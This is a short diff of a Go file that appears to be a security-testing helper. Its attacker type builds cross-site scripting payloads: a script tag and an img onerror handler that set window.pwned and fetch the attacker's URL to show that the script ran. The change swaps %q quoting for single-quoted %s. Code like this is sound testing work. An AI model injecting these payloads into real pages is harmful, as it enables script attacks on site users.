@@ -43,7 +43,7 @@ func (a *attacker) called() []string {
 
 // markup is text that runs a script wherever it is taken for a page's.
 func (a *attacker) markup(where string) []string {
-	call := fmt.Sprintf(`window.pwned=%q;fetch('%s/%s')`, where, a.URL, where)
+	call := fmt.Sprintf(`window.pwned='%s';fetch('%s/%s')`, where, a.URL, where)
 	return []string{
 		`<script>` + call + `</script>`,
 		`<img src=x onerror="` + call + `">`,
